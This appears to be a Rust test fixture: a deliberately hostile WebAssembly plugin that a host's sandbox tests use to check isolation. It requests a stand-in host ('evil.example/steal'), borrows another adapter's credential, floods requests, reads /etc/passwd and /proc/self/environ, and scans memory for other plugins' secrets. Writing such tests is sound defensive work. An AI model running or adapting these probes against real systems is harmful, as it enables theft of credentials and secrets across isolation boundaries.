//! An adapter whose `import-page` makes the requests its `mode` says. The host's tests
//! check declared hosts, credential injection, refusals, the request budget, and, in
//! `exfiltrate` mode, that nothing of another plugin (its config, its secrets, what it
//! left in memory) can be reached from here: see [`exfiltrate`].

use cashback_sdk::prelude::*;
use serde::Deserialize;

#[derive(Deserialize)]
struct Config {
    mode: String,
    url: Option<String>,
    #[serde(default)]
    probe_paths: Vec<String>,
    #[serde(default)]
    probe_urls: Vec<String>,
    #[serde(default)]
    probe_credentials: Vec<String>,
}

struct Hostile;

impl Adapter for Hostile {
    fn import_page(_request: &ImportRequest) -> Result<Page, PluginError> {
        // Before anything else allocates: what the previous instance in this memory left.
        let leftovers = scan_memory();
        let config: Config = config::get()?;
        let url = config.url.clone().unwrap_or_default();
        let response = match config.mode.as_str() {
            "fetch" => http::fetch(&http::get(&url, Some("api")))?,
            "undeclared-host" => http::fetch(&http::get("https://evil.example/steal", Some("api")))?,
            "unknown-credential" => http::fetch(&http::get(&url, Some("someone-elses-key")))?,
            "request-flood" => loop {
                let _ = http::fetch(&http::get(&url, None));
            },
            "exfiltrate" => {
                let report = exfiltrate(&config, leftovers);
                for line in &report {
                    log::info(line);
                }
                return Ok(Page { events: Vec::new(), rejected: Vec::new(), next_cursor: Some(report.join("\n")) });
            }
            other => return Err(PluginError::Config(format!("unknown mode {other:?}"))),
        };
        // The test server echoes what it received; hand it back as the cursor.
        let body = String::from_utf8_lossy(&response.body).into_owned();
        Ok(Page { events: Vec::new(), rejected: Vec::new(), next_cursor: Some(format!("{} {body}", response.status)) })
    }
}

/// Everything a plugin could try to learn what is not its own, one line per attempt:
/// the environment, files (the root, `/proc/self/environ`, and the paths the test names:
/// the plugin store, the database), URLs (the host's own admin API, a host not declared),
/// credentials by name (another adapter's), its whole config, and its linear memory.
fn exfiltrate(config: &Config, leftovers: Vec<String>) -> Vec<String> {
    let mut report = Vec::new();
    let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    report.push(format!("env: {} variables {vars:?}", vars.len()));
    report.push(format!("args: {:?}", std::env::args().collect::<Vec<_>>()));
    report.push(format!("cwd: {:?}", std::env::current_dir().map_err(|e| e.kind().to_string())));
    let mut paths: Vec<String> =
        ["/", ".", "/proc/self/environ", "/etc/passwd", "/tmp"].iter().map(|p| p.to_string()).collect();
    paths.extend(config.probe_paths.iter().cloned());
    for path in &paths {
        let listing = std::fs::read_dir(path)
            .map(|dir| {
                dir.filter_map(Result::ok).map(|e| e.file_name().to_string_lossy().into_owned()).collect::<Vec<_>>()
            })
            .map_err(|e| e.kind().to_string());
        let contents = std::fs::read(path).map(|b| String::from_utf8_lossy(&b[..b.len().min(200)]).into_owned());
        report.push(format!("file {path}: dir {listing:?} read {:?}", contents.map_err(|e| e.kind().to_string())));
    }
    for url in &config.probe_urls {
        report.push(format!("fetch {url}: {}", describe(http::fetch(&http::get(url, None)))));
    }
    let url = config.url.clone().unwrap_or_default();
    for name in &config.probe_credentials {
        report.push(format!("credential {name} at {url}: {}", describe(http::fetch(&http::get(&url, Some(name))))));
    }
    report.push(format!("config: {}", config::raw()));
    report.push(format!("memory: {} leftovers {leftovers:?}", leftovers.len()));
    // The same scan now that its own config and answers are in memory: a scanner that sees.
    report.push(format!("memory now: {:?}", scan_memory()));
    report
}

fn describe(answer: Result<http::Response, http::HttpError>) -> String {
    match answer {
        Ok(r) => format!("{} {}", r.status, String::from_utf8_lossy(&r.body[..r.body.len().min(300)])),
        Err(e) => format!("error {e:?}"),
    }
}

/// Reads the whole linear memory for the marker the tests give every secret and config
/// value of *other* plugins (`XSECRET`), and returns what follows each occurrence. The
/// needle is built at run time, so the only copy in memory is its own (skipped).
fn scan_memory() -> Vec<String> {
    let needle: Vec<u8> = "TERCESX".bytes().rev().collect();
    let own = needle.as_ptr() as usize;
    let size = memory_bytes();
    let mut found = Vec::new();
    let mut at = 1usize;
    while at + needle.len() < size && found.len() < 16 {
        // SAFETY: every address below the memory's size is readable in wasm; volatile,
        // because these bytes belong to nobody this code knows of.
        let matches =
            needle.iter().enumerate().all(|(i, b)| unsafe { std::ptr::read_volatile((at + i) as *const u8) } == *b);
        if matches && at != own {
            let tail: Vec<u8> =
                (0..40).map(|i| unsafe { std::ptr::read_volatile((at + i).min(size - 1) as *const u8) }).collect();
            found.push(format!("{at:#x}: {}", String::from_utf8_lossy(&tail)));
            at += needle.len();
        } else {
            at += 1;
        }
    }
    found
}

#[cfg(target_arch = "wasm32")]
fn memory_bytes() -> usize {
    core::arch::wasm32::memory_size::<0>() * 65_536
}

#[cfg(not(target_arch = "wasm32"))]
fn memory_bytes() -> usize {
    0
}

export_adapter!(Hostile);
